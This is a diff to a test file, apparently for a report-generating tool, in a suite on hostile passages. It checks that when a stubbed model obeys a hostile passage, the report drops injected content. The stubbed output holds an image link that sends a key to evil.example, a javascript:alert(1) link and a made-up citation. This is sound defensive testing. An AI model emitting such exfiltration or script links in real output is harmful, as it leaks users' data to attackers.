@@ -42,11 +42,11 @@ describe("a hostile passage", () => {
 	test("gets nothing into a report by a model that obeys it but what names a passage that there is", async () => {
 		const rig = await openModelRig(
 			(asked) =>
-				`# Anchor\n\nAnchor is unsafe. [99] Roses are red, violets are blue.\n\n![x](https://evil.example/?key=1)\n\nSee [this](javascript:alert(1)) or https://evil.example/. [${numberOf(asked, "a queue for")}]\n\nIt is a queue. [${numberOf(asked, "a queue for")}]\n`,
+				`# Anchor is unsafe\n\nAnchor is unsafe. [99] Roses are red, violets are blue.\n\n![x](https://evil.example/?key=1)\n\nSee [this](javascript:alert(1)) or https://evil.example/. [${numberOf(asked, "a queue for")}]\n\nIt is a queue. [${numberOf(asked, "a queue for")}]\n`,
 			{ files: FILES },
 		);
 		const report = await rig.report("What is Anchor?");
-		expect(report).toContain("# Anchor\n\nIt is a queue. [1]\n\n## Left out\n");
+		expect(report).toContain("# What is Anchor?\n\nIt is a queue. [1]\n\n## Left out\n");
 		for (const words of ["unsafe", "Roses", "evil.example", "javascript", "[99]"]) expect(report).not.toContain(words);
 	});
 
